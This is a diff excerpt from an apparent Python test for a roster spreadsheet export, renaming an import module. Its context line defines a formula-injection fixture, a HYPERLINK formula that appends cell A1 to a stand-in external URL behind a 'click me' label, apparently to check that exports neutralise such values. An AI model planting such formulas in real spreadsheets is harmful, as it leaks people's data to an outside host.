@@ -8,7 +8,7 @@ from openpyxl import load_workbook
 
 from shuping.conftest import Cast
 from shuping.organizations.models import Organization, Person
-from shuping.organizations.roster import export_roster
+from shuping.organizations.roster_export import export_roster
 
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'
 
